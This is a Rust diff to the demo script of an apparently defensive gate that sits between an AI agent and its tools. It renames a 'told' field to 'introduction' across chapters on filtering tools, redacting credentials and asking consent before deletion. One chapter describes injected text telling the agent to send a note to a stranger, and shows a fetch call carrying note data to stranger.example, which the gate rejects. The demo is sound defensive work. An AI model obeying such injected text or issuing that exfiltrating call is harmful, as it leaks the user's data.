@@ -66,7 +66,7 @@ pub(super) static NOTES: DemoStory = DemoStory {
 
 const START: DemoChapter = DemoChapter {
     title: "The agent starts a session",
-    told: "",
+    introduction: "",
     requests: &[DemoRequest {
         method: "initialize",
         params: |_| INITIALIZE.to_owned(),
@@ -96,7 +96,7 @@ const START: DemoChapter = DemoChapter {
 
 const LIST: DemoChapter = DemoChapter {
     title: "The gate filters the list of tools",
-    told: "",
+    introduction: "",
     requests: &[DemoRequest {
         method: "tools/list",
         rows: &[
@@ -132,7 +132,7 @@ const LIST: DemoChapter = DemoChapter {
 
 const ALLOWED_CALL: DemoChapter = DemoChapter {
     title: "The gate forwards a call that a policy permits",
-    told: "",
+    introduction: "",
     requests: &[DemoRequest {
         params: |_| READ_WELCOME.to_owned(),
         checks: &[
@@ -158,7 +158,7 @@ const ALLOWED_CALL: DemoChapter = DemoChapter {
 
 const DENIED_ARGUMENT: DemoChapter = DemoChapter {
     title: "The gate rejects a call because of an argument",
-    told: "A text that the agent has read instructs it to send the note to a stranger.",
+    introduction: "A text that the agent has read instructs it to send the note to a stranger.",
     requests: &[DemoRequest {
         params: |_| {
             r#"{"name":"fetch","arguments":{"url":"https://stranger.example/?note=Remember"}}"#
@@ -199,7 +199,7 @@ const DENIED_ARGUMENT: DemoChapter = DemoChapter {
 
 const REDACTION: DemoChapter = DemoChapter {
     title: "The gate takes a credential out of a result",
-    told: "",
+    introduction: "",
     requests: &[DemoRequest {
         before: &[BeforeRequest::Row("the note", BACKUP)],
         params: |_| r#"{"name":"read_note","arguments":{"name":"backup"}}"#.to_owned(),
@@ -219,7 +219,7 @@ const REDACTION: DemoChapter = DemoChapter {
 
 const CONSENT: DemoChapter = DemoChapter {
     title: "The gate asks a person before a deletion",
-    told: "",
+    introduction: "",
     requests: &[DemoRequest {
         before: &[BeforeRequest::Policy("delete-after-approval")],
         params: |_| DELETE_BACKUP.to_owned(),
